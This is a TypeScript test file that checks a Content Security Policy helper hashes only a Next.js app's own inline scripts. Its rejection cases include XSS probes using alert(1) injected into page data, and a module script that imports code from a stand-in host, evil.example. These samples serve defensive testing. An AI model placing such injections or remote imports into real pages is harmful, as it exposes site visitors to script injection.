import { createHash } from "node:crypto";
import { expect, it } from "vitest";
import { STARTER_HASH } from "../first-frame/scripts-after-frame.mjs";
import { inlineHashes, keptPagePolicy } from "./inline-hashes.mjs";

const hashOf = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;
const opens = "(self.__next_f=self.__next_f||[]).push([0])";
const data = String.raw`self.__next_f.push([1,"2a:[\"$\",\"p\",null,{\"children\":\"Mật ong \u003c/script>\"}]\n"])`;
const chunks = `(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[1]});`;

it("Next's own data runs, each with its hash, once", () => {
  const html = `<script src="/a.js" async=""></script><script id="_R_">${chunks}</script><script>${opens}</script><script>${data}</script><script>${data}</script>`;
  expect(inlineHashes(html)).toEqual([hashOf(chunks), hashOf(opens), hashOf(data)]);
  expect(keptPagePolicy("<p>Chợ</p>")).toBe(`script-src 'self' ${STARTER_HASH}`);
});

it.each([
  ["a script of somebody's", "<script>alert(1)</script>"],
  ["one behind page data", `<script>${data};alert(1)</script>`],
  ["one inside page data", "<script>self.__next_f.push([1,alert(1)])</script>"],
  ["one that closes page data", '<script>self.__next_f.push([1,"a"]);alert(1);([""])</script>'],
  ["one that calls itself a module", '<script type="module">import("https://evil.example")</script>'],
  ["one behind the opening line", `<script>${opens};alert(1)</script>`],
  [
    "one with a chunk that is computed",
    '<script>(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"a":alert(1)});</script>',
  ],
  ["data of a search engine", '<script type="application/ld+json">{"@type":"Product"}</script>'],
])("%s gets no hash", (_, html) => expect(inlineHashes(html)).toEqual([]));
